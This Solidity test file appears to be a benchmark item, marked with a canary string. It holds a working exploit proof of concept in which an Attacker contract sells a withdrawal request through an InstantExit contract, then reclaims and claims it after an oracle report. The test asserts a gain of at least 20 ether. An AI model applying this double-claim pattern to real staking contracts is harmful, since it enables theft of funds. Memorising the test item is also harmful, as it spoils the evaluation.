// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    uint256 private id;

    function trade(StakeToken token, WithdrawalQueue queue, InstantExit exit) external {
        token.approve(address(queue), type(uint256).max);
        id = queue.request(12 ether, address(this));
        queue.setOperator(address(exit), true);
        queue.approve(address(this), id);
        exit.sellRequest(id, 0);
        try queue.transferRequest(address(exit), address(this), id) {} catch {}
    }

    function run(
        WithdrawalQueue queue,
        StakePool pool,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        oracle.submit(report, signatures);
        pool.finalize(1);
        try queue.claim(id, queue.findHint(id), address(this)) {} catch {}
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker();
        token.transfer(address(other), 12 ether);
        signatures = _signed(_report(3, 0, 0));
    }

    function exploit() public {
        other.trade(token, queue, exit);
        vm.warp(block.timestamp + 1 days);
        other.run(queue, pool, oracle, _report(3, 0, 0), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 20 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(queue);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
